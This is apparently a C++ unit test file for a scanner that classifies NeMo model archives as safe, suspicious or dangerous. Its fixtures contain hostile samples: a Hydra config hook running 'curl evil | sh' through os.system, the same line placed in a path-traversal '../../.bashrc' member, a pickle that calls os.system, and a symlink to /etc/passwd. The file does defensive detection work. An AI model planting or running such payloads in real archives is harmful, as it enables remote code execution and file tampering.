// .nemo archives built here: a plain NeMo model is safe; a Hydra target
// that runs code, a malicious checkpoint inside, or a member that extracts
// outside its folder is dangerous; a broken archive cannot be inspected.
#include "owl/nemo.h"

#include <gtest/gtest.h>
#include <zlib.h>

#include <algorithm>
#include <string>

#include "builders/bytes_of.h"
#include "builders/findings.h"
#include "builders/tar_builder.h"
#include "builders/zip_builder.h"
#include "read/import_policy.h"

namespace owl {
namespace {

using namespace std::string_literals;
using testing::all_findings;
using testing::bytes_of;
using testing::has_finding;
using testing::make_tar;

const std::string kSafePickle = "\x80\x02}q\x00X\x01\x00\x00\x00kq\x01K\x01s."s;
const std::string kOsSystemPickle = "\x80\x02\x63os\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85R."s;

const std::string kPlainConfig =
    "target: nemo.collections.asr.models.EncDecCTCModel\n"
    "preprocessor:\n"
    "  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n"
    "  sample_rate: 16000\n"
    "encoder:\n"
    "  _target_: nemo.collections.asr.modules.ConformerEncoder\n"
    "  n_layers: 2\n"
    "  activation:\n"
    "    _target_: torch.nn.ReLU\n";

std::string checkpoint(const std::string& pickle) {
  return testing::make_zip({{"model_weights/data.pkl", pickle}});
}

NemoArchive read(const std::string& bytes) {
  auto archive = read_nemo(bytes_of(bytes));
  EXPECT_TRUE(archive.has_value()) << (archive ? "" : archive.error().message());
  return archive ? *archive : NemoArchive{};
}

std::string gzip(const std::string& data) {
  z_stream stream{};
  EXPECT_EQ(
      deflateInit2(&stream, Z_DEFAULT_COMPRESSION, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY),
      Z_OK);
  std::string out(deflateBound(&stream, data.size()) + 64, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  stream.avail_in = static_cast<uInt>(data.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  EXPECT_EQ(deflate(&stream, Z_FINISH), Z_STREAM_END);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

TEST(NemoPolicy, BuiltinPolicyIsValid) {
  for (const Error& error : imports::nemo_policy().errors) ADD_FAILURE() << error.message();
}

TEST(Nemo, PlainModelIsSafe) {
  const std::string tar = make_tar({{"./", "", '5'},
                                    {"./model_config.yaml", kPlainConfig},
                                    {"./model_weights.ckpt", checkpoint(kSafePickle)},
                                    {"./tokenizer.model", "sentencepiece bytes"}});
  ASSERT_TRUE(looks_like_nemo_tar(bytes_of(tar)));
  const NemoArchive archive = read(tar);
  EXPECT_EQ(archive.safety, Safety::kSafe) << all_findings(archive);
  EXPECT_EQ(archive.member_count, 4u);
  EXPECT_EQ(archive.config_members, std::vector<std::string>{"./model_config.yaml"});
  EXPECT_EQ(archive.targets.size(), 3u);
  ASSERT_EQ(archive.checkpoints.size(), 1u);
  EXPECT_EQ(archive.checkpoints[0].first, "./model_weights.ckpt");
  EXPECT_FALSE(archive.checkpoints[0].second.pickles.empty());
}

TEST(Nemo, HydraTargetThatRunsCodeIsDangerous) {
  const std::string config =
      kPlainConfig + "hook:\n  _target_: os.system\n  _args_: ['curl evil | sh']\n";
  const NemoArchive archive = read(make_tar({{"./model_config.yaml", config}}));
  EXPECT_EQ(archive.safety, Safety::kDangerous);
  EXPECT_TRUE(has_finding(archive,
                          "dangerous: ./model_config.yaml hook _target_: Hydra instantiates "
                          "os.system: process and file operations"))
      << all_findings(archive);
}

TEST(Nemo, UnknownTargetIsSuspicious) {
  const NemoArchive archive =
      read(make_tar({{"model_config.yaml", "encoder:\n  _target_: my_lab.blocks.Encoder\n"}}));
  EXPECT_EQ(archive.safety, Safety::kSuspicious);
  EXPECT_TRUE(has_finding(archive,
                          "model_config.yaml encoder _target_: Hydra instantiates "
                          "my_lab.blocks.Encoder: not on the allowlist"))
      << all_findings(archive);
}

TEST(Nemo, MaliciousCheckpointInsideIsDangerous) {
  const NemoArchive archive =
      read(make_tar({{"./model_config.yaml", kPlainConfig},
                     {"./model_weights.ckpt", checkpoint(kOsSystemPickle)}}));
  EXPECT_EQ(archive.safety, Safety::kDangerous);
  EXPECT_TRUE(has_finding(archive, "dangerous: ./model_weights.ckpt: model_weights/data.pkl"))
      << all_findings(archive);
}

TEST(Nemo, MemberExtractingOutsideTheFolderIsDangerous) {
  const NemoArchive archive = read(make_tar({{"./model_config.yaml", kPlainConfig},
                                             {"../../.bashrc", "curl evil | sh\n"},
                                             {"./link", "", '2', "/etc/passwd"}}));
  EXPECT_EQ(archive.safety, Safety::kDangerous);
  EXPECT_TRUE(has_finding(archive, "dangerous: ../../.bashrc: the name leads outside"));
  EXPECT_TRUE(has_finding(archive, "dangerous: ./link: a symbolic link to /etc/passwd"))
      << all_findings(archive);
}

TEST(Nemo, GzipArchiveIsReadToo) {
  const std::string tar = make_tar({{"./model_config.yaml", "x:\n  _target_: subprocess.run\n"}});
  const NemoArchive archive = read(gzip(tar));
  EXPECT_TRUE(archive.gzip);
  EXPECT_EQ(archive.safety, Safety::kDangerous) << all_findings(archive);
}

TEST(Nemo, BrokenHeaderCannotBeInspected) {
  std::string tar = make_tar({{"./model_config.yaml", kPlainConfig},
                              {"./model_weights.ckpt", checkpoint(kOsSystemPickle)}});
  tar[512 + ((kPlainConfig.size() + 511) / 512) * 512 + 10] ^= 0x5A;  // second header's name
  const NemoArchive archive = read(tar);
  EXPECT_NE(archive.safety, Safety::kSafe);
  EXPECT_TRUE(has_finding(archive, "tar: cannot inspect: byte"));
  EXPECT_TRUE(has_finding(archive, "the header checksum does not match")) << all_findings(archive);
}

TEST(Nemo, ConfigThatDoesNotParseCannotBeInspected) {
  const NemoArchive archive = read(make_tar({{"model_config.yaml", "a: [unclosed\n"}}));
  EXPECT_EQ(archive.safety, Safety::kSuspicious);
  EXPECT_TRUE(has_finding(archive, "model_config.yaml: cannot inspect: the YAML does not parse"));
}

TEST(Nemo, NotATarIsAnError) {
  auto archive = read_nemo(bytes_of("just some bytes, not an archive at all"s));
  ASSERT_FALSE(archive.has_value());
  EXPECT_EQ(archive.error().rule(), "nemo.not-a-tar");
}

}  // namespace
}  // namespace owl
